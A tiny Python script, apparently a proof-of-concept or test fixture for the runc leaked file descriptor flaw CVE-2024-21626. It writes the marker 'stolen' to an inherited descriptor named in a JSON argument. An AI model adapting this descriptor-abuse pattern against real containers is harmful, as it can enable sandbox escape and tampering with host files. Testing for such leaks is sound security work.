"""Use what was open when we were started (CVE-2024-21626)."""

import json
import os
import sys

os.write(json.loads(sys.argv[1])["descriptor"], b"stolen")
